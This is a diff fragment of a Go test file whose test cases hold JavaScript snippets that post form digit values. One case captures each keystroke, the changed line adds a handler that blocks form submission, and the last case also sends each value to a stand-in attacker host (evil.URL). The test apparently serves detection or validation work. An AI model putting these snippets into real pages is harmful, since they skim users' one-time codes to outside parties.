@@ -157,7 +157,8 @@ func TestEachDigitThatLeavesAloneIsTheCodes(t *testing.T) {
 		{"JSON", `each(d => post(JSON.stringify({[d.name]: d.value})))`},
 		{"JSON with a number", `each(d => post(JSON.stringify({step: {[d.name]: Number(d.value)}})))`},
 		{"parts", `each(d => { const data = new FormData(); data.append(d.name, d.value); return post(data) })`},
-		{"as it is typed", `all.forEach(d => d.oninput = () => d.value && post(new URLSearchParams({[d.name]: d.value})))`},
+		{"as it is typed", `f.onsubmit = e => e.preventDefault();
+			all.forEach(d => d.oninput = () => d.value && post(new URLSearchParams({[d.name]: d.value})))`},
 		{"to another site as well", `each(async d => { await post(new URLSearchParams({[d.name]: d.value}));
 			await post(new URLSearchParams({[d.name]: d.value}), '` + evil.URL + `/digit').catch(() => 0) })`},
 	} {
